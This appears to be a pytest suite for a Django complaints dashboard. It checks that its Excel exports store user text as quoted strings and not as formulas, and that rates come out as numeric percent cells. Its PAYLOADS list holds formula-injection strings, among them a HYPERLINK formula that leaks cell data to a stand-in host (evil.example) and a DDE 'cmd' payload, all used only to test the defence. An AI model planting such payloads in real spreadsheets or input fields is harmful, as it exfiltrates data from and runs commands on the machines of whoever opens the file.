"""Every export writes user text as text, never as a formula (issue 17, item 5):
each free-text field typed as a formula payload comes out of every workbook as
a string cell; figures are numeric cells, rates numbers formatted as %."""

import datetime as dt
import io

import pytest
from django.utils import translation
from django.utils.translation import gettext as _
from openpyxl import Workbook, load_workbook

from complaints.models import Category, Complaint
from config.xlsx import Percent, append
from dashboards.models import AccountabilityRecord, RectificationItem
from tests.conftest import at

pytestmark = pytest.mark.django_db

OCTOBER = {"date_from": "2026-10-01", "date_to": "2026-10-31"}
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "=1+1", "\t=1+1", "\r=1+1"]


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def no_formula(content: bytes) -> list[str]:
    """Every cell that a spreadsheet would run, and every payload written without its quote prefix."""
    found = []
    for c in cells(content):
        if c.data_type == "f":
            found.append(f"{c.coordinate}: formula {c.value!r}")
        elif isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")) and not c.quotePrefix:
            found.append(f"{c.coordinate}: unquoted {c.value!r}")
    return found


@pytest.fixture
def poisoned(case, walk, staff, clock):
    """October cases whose every free-text field is a formula payload, with the
    accountability and rectification records and the category name alike."""
    Category.objects.filter(code="I-2").update(name=PAYLOADS[4])
    made = []
    for i, payload in enumerate(PAYLOADS):
        complaint = case(f"2026-10-{12 + i} 10:00", category="I-2", complainant_name=payload[:40],
                         reason=payload, request=payload, narrative=payload, product_ref=payload[:100],
                         issue_tag=payload[:100], complainant_region=payload[:100])
        made.append(complaint)
    walk.resolve(made[0], "2026-10-20 10:00")
    Complaint.objects.filter(pk=made[0].pk).update(  # archived with its root cause and measure (the report lists it)
        root_cause=PAYLOADS[0], responsible_party=PAYLOADS[1], rectification=PAYLOADS[2], resolution=PAYLOADS[3],
        state="archived", archived_at=at("2026-10-21 10:00"))
    AccountabilityRecord.objects.create(complaint=made[0], department=PAYLOADS[1], action="other", note=PAYLOADS[2],
                                        owner=staff["cs_manager_gd"])
    item = RectificationItem.objects.create(title=PAYLOADS[0], description=PAYLOADS[3], org_unit=staff["handler_gd"].org_unit,
                                            owner=staff["cs_manager_gd"], due_date=dt.date(2026, 11, 30))
    item.complaints.add(made[0])
    clock.set("2026-11-15 10:00")
    return made


def test_no_cell_of_the_case_export_is_a_formula(poisoned, client_for):
    response = client_for("manager_gd").get("/dashboard/cases.xlsx", {"received_from": "2026-10-01"})
    assert response.status_code == 200
    assert no_formula(response.content) == []
    texts = {c.value for c in cells(response.content)}
    assert PAYLOADS[0][:40] in texts and PAYLOADS[1] in texts  # written, as text


def test_no_cell_of_the_report_workbook_is_a_formula(poisoned, client_for):
    response = client_for("manager_gd").get("/dashboard/report.xlsx", OCTOBER)
    assert response.status_code == 200
    assert no_formula(response.content) == []
    texts = {c.value for c in cells(response.content)}
    assert {PAYLOADS[0], PAYLOADS[1][:100]} <= texts  # the rectification item and the product, as text


def test_a_string_cell_keeps_every_payload_as_text_and_numbers_as_numbers():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    append(sheet, [*PAYLOADS, 12, 3.5, Percent(0.25), Percent(None), "平常文字"])
    buffer = io.BytesIO()
    book.save(buffer)
    row = list(load_workbook(io.BytesIO(buffer.getvalue()))["x"].iter_rows())[0]
    assert [c.value for c in row[:len(PAYLOADS)]] == [p.replace("\r", "\n") for p in PAYLOADS]  # XML keeps \n
    assert all(c.data_type == "s" and c.quotePrefix for c in row[:len(PAYLOADS)])
    number, decimal, rate, nothing, plain = row[len(PAYLOADS):]
    assert (number.value, number.data_type, decimal.value) == (12, "n", 3.5)
    assert (rate.value, rate.data_type, rate.number_format) == (0.25, "n", "0.0%")
    assert nothing.value is None
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("平常文字", "s", False)


def test_report_rates_are_numeric_cells_formatted_as_percent(poisoned, client_for):
    book = load_workbook(io.BytesIO(client_for("manager_gd").get("/dashboard/report.xlsx", OCTOBER).content))
    with translation.override("zh-hans"):
        sheet = book[_("Overview")]
        rates = {row[0].value: row[1] for row in sheet.iter_rows() if row[0].value and len(row) > 1}
        rate = rates[_("First callback on-time rate")]
    assert rate.data_type == "n" and rate.number_format == "0.0%" and 0 <= rate.value <= 1


def test_the_segments_sheet_says_gender_and_customer_type_in_words(poisoned, client_for):
    book = load_workbook(io.BytesIO(client_for("manager_gd").get("/dashboard/report.xlsx", OCTOBER).content))
    with translation.override("zh-hans"):
        values = {row[1] for row in book[_("Segments")].iter_rows(min_row=2, values_only=True)}
    assert "老客户" in values and not values & {"F", "M", "U", "existing", "new"}
